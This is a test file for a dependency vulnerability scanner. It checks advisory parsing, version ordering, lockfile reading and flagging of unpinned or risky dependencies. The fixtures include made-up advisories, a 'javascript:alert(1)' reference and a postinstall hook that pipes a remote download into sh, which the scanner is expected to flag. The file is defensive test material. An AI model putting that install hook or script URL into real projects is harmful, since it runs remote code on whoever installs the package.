import { describe, expect, it } from 'vitest';
import { filesOf } from '../../project/files.ts';
import { scanProject } from '../../scan.ts';
import { found } from '../patterns/testing.ts';
import { dependencyDetectors } from './detectors.ts';
import { readPnpmLock, readYarnLock } from './lockfiles.ts';
import { indexAdvisories, isAffected, readAdvisory } from './osv.ts';
import { compareVersions, lowestOf, parseVersion } from './semver.ts';

const record = {
  id: 'GHSA-xxxx-0000-0001',
  aliases: ['CVE-2099-0001'],
  summary: 'Made up for this test',
  database_specific: { severity: 'HIGH' },
  references: [
    { type: 'WEB', url: 'https://advisories.example/1' },
    { type: 'WEB', url: 'javascript:alert(1)' },
  ],
  affected: [
    {
      package: { ecosystem: 'npm', name: 'left-tool' },
      ranges: [
        {
          type: 'SEMVER',
          events: [{ fixed: '1.4.0' }, { introduced: '1.0.0' }, { introduced: '2.0.0' }, { last_affected: '2.3.1' }],
        },
      ],
      versions: ['0.9.0-beta'],
    },
  ],
};
const advisory = readAdvisory(record);

describe('OSV', () => {
  it.each([
    ['0.9.0', false],
    ['0.9.0-beta', true],
    ['1.0.0', true],
    ['1.3.9', true],
    ['1.4.0-rc.1', true],
    ['1.4.0', false],
    ['2.0.0', true],
    ['2.3.1', true],
    ['2.3.2', false],
    ['nonsense', false],
  ])('%s affected: %s', (version, affected) => {
    expect(isAffected(advisory!.affected[0]!, version) !== undefined).toBe(affected);
  });

  it('keeps only https references, and refuses what is withdrawn or no record', () => {
    expect(advisory?.references).toEqual(['https://advisories.example/1']);
    expect(readAdvisory({ ...record, withdrawn: '2099-01-01T00:00:00Z' })).toBeUndefined();
    expect(readAdvisory({ id: 1 })).toBeUndefined();
    expect(readAdvisory(null)).toBeUndefined();
    expect(readAdvisory({ ...record, affected: [{ package: { ecosystem: 'crates.io', name: 'x' } }] })).toBeUndefined();
  });
});

describe('versions', () => {
  it('follows the precedence of the specification', () => {
    const order = [
      '1.0.0-alpha',
      '1.0.0-alpha.1',
      '1.0.0-alpha.beta',
      '1.0.0-beta',
      '1.0.0-beta.2',
      '1.0.0-beta.11',
      '1.0.0-rc.1',
      '1.0.0',
      '1.0.1',
      '1.10.0',
      '2.0.0',
    ];
    for (let at = 1; at < order.length; at += 1)
      expect(compareVersions(parseVersion(order[at - 1]!)!, parseVersion(order[at]!)!)).toBeLessThan(0);
  });
  it.each([
    ['^4.17.4', '4.17.4'],
    ['~1.2', '1.2'],
    ['>=1.0.0 <2', '1.0.0'],
    ['*', undefined],
    ['latest', undefined],
    ['git+https://x/y.git', undefined],
  ])('the lowest of %s is %s', (range, lowest) => expect(lowestOf(range)).toBe(lowest));
});

describe('lockfiles', () => {
  it('reads npm, yarn and pnpm in all their forms', () => {
    expect(
      found(dependencyDetectors, {
        'a/package-lock.json':
          '{"lockfileVersion":1,"dependencies":{"lodash":{"version":"4.17.4"},\n"x":{"version":"1.0.0","dependencies":{"minimist":{"version":"1.2.0"}}}}}',
        'b/package-lock.json':
          '{"lockfileVersion":3,"packages":{"":{"name":"b"},\n"node_modules/lodash":{"version":"4.17.21"},\n"node_modules/a/node_modules/ws":{"version":"7.4.0"}}}',
        'c/yarn.lock':
          '# yarn lockfile v1\n\n"axios@^0.19.0", axios@^0.19.2:\n  version "0.19.2"\n  resolved "https://r.example/a"\n',
        'd/yarn.lock': '__metadata:\n  version: 6\n\n"jsonwebtoken@npm:^8.5.1":\n  version: 8.5.1\n',
        'e/pnpm-lock.yaml':
          "lockfileVersion: '9.0'\npackages:\n  '@scope/a@1.0.0':\n    resolution: {}\n  vm2@3.9.17:\n    resolution: {}\n",
        'f/pnpm-lock.yaml':
          'lockfileVersion: 5.4\npackages:\n  /crypto-js/4.1.1:\n    dev: false\n  /xml2js/0.4.23_x@1.0.0:\n    dev: false\n',
        'g/pom.xml':
          '<project><properties><fj>1.2.70</fj></properties><dependencies><dependency><groupId>com.alibaba</groupId>\n<artifactId>fastjson</artifactId><version>${fj}</version></dependency></dependencies></project>',
      }),
    ).toEqual([
      'MP-DEP-001 a/package-lock.json:1',
      'MP-DEP-001 a/package-lock.json:2',
      'MP-DEP-001 b/package-lock.json:3',
      'MP-DEP-001 c/yarn.lock:3',
      'MP-DEP-001 d/yarn.lock:4',
      'MP-DEP-001 e/pnpm-lock.yaml:5',
      'MP-DEP-001 f/pnpm-lock.yaml:3',
      'MP-DEP-001 f/pnpm-lock.yaml:5',
      'MP-DEP-001 g/pom.xml:2',
    ]);
  });

  it('takes the lowest version of a manifest without a lockfile, and copies by what they say of themselves', () => {
    expect(
      found(dependencyDetectors, {
        'package.json': '{"dependencies":{"lodash":"^4.17.4"}}',
        'mini/app.json': '{"pages":[]}',
        'mini/libs/vendor/lodash.js': "/** @license lodash.com/license */\nvar VERSION = '4.17.10';\n",
        'mini/libs/vendor/moment.js': '//! moment.js\n//! version : 2.30.1\n//! momentjs.com\n',
      }),
    ).toEqual(['MP-DEP-001 mini/libs/vendor/lodash.js:2', 'MP-DEP-001 package.json:1', 'MP-DEP-002 package.json:1']);
  });

  it('uses the advisories that are handed in instead of its own', () => {
    const { findings } = scanProject(
      filesOf({
        'package-lock.json':
          '{"packages":{"node_modules/lodash":{"version":"4.17.4"},"node_modules/left-tool":{"version":"1.1.0"}}}',
      }),
      { detectors: dependencyDetectors, advisories: indexAdvisories([advisory!]) },
    );
    expect(findings.map(({ message }) => message.en)).toEqual([
      'left-tool 1.1.0 has 1 known vulnerability: CVE-2099-0001 (Made up for this test); upgrade to 1.4.0 or later',
    ]);
  });

  it('folds the advisories of one version of a package into one finding, the worst first, with every place that holds it', () => {
    const severe = (id: string, severity: string) => ({
      ...record,
      id,
      aliases: [],
      database_specific: { severity },
    });
    const many = [
      ...['L1', 'L2', 'L3', 'L4', 'L5', 'L6'].map((id) => severe(id, 'LOW')),
      severe('C1', 'CRITICAL'),
      severe('H1', 'HIGH'),
    ].map((one) => readAdvisory(one)!);
    const lock = '{"packages":{"node_modules/left-tool":{"version":"1.1.0"}}}';
    const { findings } = scanProject(
      filesOf({
        'a/package-lock.json': lock,
        'b/package.json': '{"dependencies":{"left-tool":"1.1.0"}}',
        'b/package-lock.json': lock,
        'c/yarn.lock': 'left-tool@^2.0.0:\n  version "2.1.0"\n',
        'd/package-lock.json': '{"packages":{"node_modules/left-tool":{"version":"1.1.0","dev":true}}}',
      }),
      { detectors: dependencyDetectors, advisories: indexAdvisories(many) },
    );
    const known = findings.filter(({ rule }) => rule === 'MP-DEP-001');
    expect(known.map(({ file, severity }) => `${file} ${severity}`)).toEqual([
      'a/package-lock.json critical',
      'c/yarn.lock critical',
    ]);
    expect(known[0]?.message.en).toContain('has 8 known vulnerabilities, the worst first: C1, H1, L1, L2, L3, L4 and 2 more');
    expect(known[0]?.evidence?.places.map(({ file }) => file)).toEqual(['b/package-lock.json', 'd/package-lock.json']);
  });

  it('weighs what comes along, and what is for development, less', () => {
    const severities = scanProject(
      filesOf({
        'package.json': '{"dependencies":{"vm2":"3.9.17"}}',
        'package-lock.json':
          '{"packages":{"node_modules/vm2":{"version":"3.9.17"},\n"node_modules/minimist":{"version":"1.2.0"},\n"node_modules/json5":{"version":"1.0.1","dev":true}}}',
      }),
      { detectors: dependencyDetectors },
    ).findings.map(({ severity }) => severity);
    expect(severities).toEqual(['critical', 'high', 'low']);
  });
});

describe('pinning', () => {
  it('tells of addresses, floating versions and hostile install scripts', () => {
    expect(
      found(dependencyDetectors, {
        'package.json':
          '{\n"dependencies": {\n"a": "git+https://host.example/a.git",\n"b": "*",\n"c": "1.0.0",\n"d": "user/repo#0123456789012345678901234567890123456789"\n},\n"scripts": {\n"postinstall": "curl https://host.example/x | sh"}}',
        'package-lock.json': '{"packages":{}}',
      }),
    ).toEqual(['MP-DEP-002 package.json:3', 'MP-DEP-002 package.json:4', 'MP-DEP-002 package.json:9']);
  });

  it('is content with a locked project', () => {
    expect(
      found(dependencyDetectors, {
        'package.json': '{"dependencies":{"a":"^1.0.0"},"scripts":{"postinstall":"husky"}}',
        'yarn.lock': 'a@^1.0.0:\n  version "1.0.0"\n',
      }),
    ).toEqual([]);
  });
});

describe('hostile lockfiles', () => {
  it('are read in one pass, or refused', () => {
    expect(readYarnLock(`${'"'.repeat(200_000)}\n`.repeat(3))).toEqual([]);
    expect(readPnpmLock(`packages:\n  ${'@a/'.repeat(60_000)}\n`)).toEqual([]);
    const files = { 'package-lock.json': '{"dependencies":{"a":'.repeat(5000), 'pom.xml': '<dependency>'.repeat(20_000) };
    expect(found(dependencyDetectors, files)).toEqual([]);
  });
});
